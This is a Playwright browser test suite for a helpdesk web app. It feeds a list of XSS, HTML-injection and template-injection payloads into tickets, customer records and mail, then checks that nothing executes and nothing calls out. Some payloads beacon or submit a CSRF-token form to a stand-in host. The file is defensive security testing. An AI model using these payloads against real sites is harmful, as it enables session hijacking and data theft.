"""Letters written to run in an agent's browser or to call home: real letters, a real Chromium (A1 to A9)."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from answerable.casework.incoming import Incoming, IncomingFile
from answerable.casework.note import note
from answerable.casework.receive import receive
from answerable.channels.email.parse import parse
from answerable.channels.models import CaughtMail, Letter
from answerable.customers.models import Company, Customer
from answerable.kit.now import now
from answerable.kit.scope import brands_visible
from answerable.tickets.models import Ticket
from support.screens import sign_in

pytestmark = pytest.mark.browser

HOME = "https://calls-home.example"
PAYLOADS = [
    "<script>pwned=1</script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<img src=x onerror=pwned=1>",
    f"<img src={HOME}/pixel.gif width=1>",
    "<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "</textarea><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "\"'><script>pwned=1</script>",
    '" autofocus onfocus=pwned=1 x="',
    "' autofocus onfocus=pwned=1 x='",
    "` onmouseover=pwned=1 `",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    f"<iframe src={HOME}></iframe>",
    f"<style>@import '{HOME}/x.css';body{{background:url({HOME}/b)}}</style>",
    f"<link rel=stylesheet href={HOME}/y.css><link rel=prefetch href={HOME}/p>",
    f"<meta http-equiv=refresh content='0;url={HOME}/m'>",
    f"<base href={HOME}/>",
    f"<form action={HOME}/f><input name=csrfmiddlewaretoken><button autofocus>x</button></form>",
    "<a href=javascript:pwned=1 autofocus>x</a>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<template><script>pwned=1</script></template>",
    "<object data=javascript:pwned=1><embed src=javascript:pwned=1>",
    "<div hx-get=/me/ hx-trigger=load hx-on::load=pwned=1 data-hx-post=/accounts/logout/ hx-vals='js:{a:pwned=1}'>",
    "<div data-command=x data-key=j data-row id=pane class=btn></div>",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}{{constructor.constructor('pwned=1')()}}",
    "javascript:pwned=1",
    "\u202e\u2066evil\u2069 \u200b<b>",
    "\u2028pwned=1\u2029",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "]]><script>pwned=1</script>",
    "<x" * 40 + " onclick=pwned=1>",
]


def arrive(brand, number, payload):
    letter = parse(
        (
            f"From: hostile{number}@evil{number}.example\nSubject: {number} nasty\n"
            f"Content-Type: text/html\n\n<p>nasty {number} {payload}</p>"
        ).encode()
    )
    return receive(
        Incoming(
            brand_id=brand.pk,
            channel="email",
            sender_email=f"hostile{number}@evil{number}.example",
            sender_name=payload[:200],
            subject=f"nasty {payload}"[:500],
            text=f"{payload}\n\n> quoted {payload}\n{letter.text}",
            html=letter.html or payload,
            received_at=now(),
            files=(IncomingFile(payload[:200], "text/html", payload.encode()),),
        ),
        at=now(),
    ).ticket


@pytest.fixture
def attacked(lived, desk):
    """Each payload in every place a stranger can fill; the tickets."""
    brand = desk.brands["barbar"]
    with brands_visible([brand.pk]):
        company = Company.objects.create(
            brand=brand, name=PAYLOADS[0] + PAYLOADS[2], domains=[PAYLOADS[9]], created_at=now()
        )
        tickets = [arrive(brand, number, payload) for number, payload in enumerate(PAYLOADS)]
        for number, (ticket, payload) in enumerate(zip(tickets, PAYLOADS, strict=True)):
            note(ticket, agent=desk.agents["iris"], text=payload, at=now())
            Customer.objects.filter(pk=ticket.requester_id).update(
                access_needs=payload, phone=payload[:32], company=company
            )
            Ticket.objects.filter(pk=ticket.pk).update(company=company)
            raw = f"Subject: nasty {number}\nFrom: x@y.example\nContent-Type: text/html\n\n{payload}".encode()
            Letter.objects.create(
                brand=brand, digest=str(number), raw=raw, size=len(raw), source="smtp", sender=payload[:320],
                subject=payload[:500], reason=payload[:500], state="unreadable", received_at=now(), next_try_at=now(),
            )  # fmt: skip
            CaughtMail.objects.create(
                brand=brand, caught_at=now(), sender=payload[:320], recipients=[payload[:300]],
                subject=payload[:500], raw=raw,
            )  # fmt: skip
        return company, [Ticket.objects.select_related("brand").get(pk=ticket.pk) for ticket in tickets]


@pytest.fixture
def watched(page, served, attacked, settings):
    """Iris signed in; afterwards nothing may have run and no request may have left."""
    settings.DEMO = True
    left = []
    page.on("request", lambda request: left.append(request.url) if leaves(request.url, served) else None)
    page.on("dialog", lambda dialog: left.append(f"dialog {dialog.message}"))
    sign_in(page, f"{served}/desk/mine/")
    expect(page.get_by_role("heading", name="My work")).to_be_visible()
    yield page
    assert left == []


def leaves(url, served):
    return urlsplit(url).netloc not in {urlsplit(served).netloc, ""}


def untouched(page):
    assert page.evaluate("typeof pwned") == "undefined", page.url
    assert page.evaluate("document.baseURI") == page.url
    assert not page.locator("iframe, object, embed, base, meta[http-equiv]").count()


def test_the_watch_would_notice(page, served):
    """The check itself can fail: what runs is seen, what calls home is seen."""
    left = []
    page.route(f"{HOME}/**", lambda route: route.fulfill(body=""))
    page.on("request", lambda request: left.append(request.url) if leaves(request.url, served) else None)
    page.set_content(f"<img src={HOME}/pixel.gif><script>pwned=1</script>", wait_until="load")
    assert left == [f"{HOME}/pixel.gif"]
    with pytest.raises(AssertionError):
        untouched(page)


def test_a_hostile_letter_is_text_on_its_ticket(watched, served, attacked):
    for ticket in attacked[1]:
        watched.goto(f"{served}/desk/all/{ticket.reference}", wait_until="load")
        expect(watched.locator("main[data-reference]")).to_be_visible()
        watched.mouse.move(400, 300)
        untouched(watched)


def test_hostile_names_are_text_on_every_other_page(watched, served, attacked):
    company, tickets = attacked
    customers = [f"/people/customers/{ticket.requester_id}" for ticket in tickets[::4]]
    caught = [f"/mail/{pk}" for pk in in_barbar(tickets, CaughtMail)[::3]]
    pages = [
        "/desk/all/", "/desk/unassigned/", "/desk/brand-barbar/", "/desk/all/?q=nasty", "/people/?q=script",
        "/people/", f"/people/companies/{company.pk}", "/letters/", "/mail/", "/promises/barbar", "/me/",
        *customers, *caught,
    ]  # fmt: skip
    for address in pages:
        assert watched.goto(f"{served}{address}", wait_until="load").status == 200, address
        untouched(watched)


def in_barbar(tickets, model):
    with brands_visible([tickets[0].brand_id]):
        return list(model.objects.order_by("id").values_list("pk", flat=True))


def test_the_palette_and_parts_of_pages_show_words(watched, served, attacked):
    watched.goto(f"{served}/desk/all/", wait_until="load")
    watched.keyboard.press("Control+k")
    watched.locator("#palette input").fill("nasty")
    expect(watched.locator("#palette-list [role=option]").filter(has_text="<")).not_to_have_count(0)
    untouched(watched)
    watched.keyboard.press("Escape")
    watched.locator("[data-row]").first.click()
    expect(watched.locator("main[data-reference]")).to_be_visible()
    untouched(watched)


def test_a_hostile_file_is_only_ever_saved(watched, served, attacked):
    ticket = attacked[1][0]
    watched.goto(f"{served}/desk/all/{ticket.reference}", wait_until="load")
    link = watched.locator('a[href^="/desk/files/"]').first
    with watched.expect_download() as started:
        link.click()
    assert started.value.url.startswith(served)
    answer = watched.request.get(f"{served}{link.get_attribute('href')}")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]
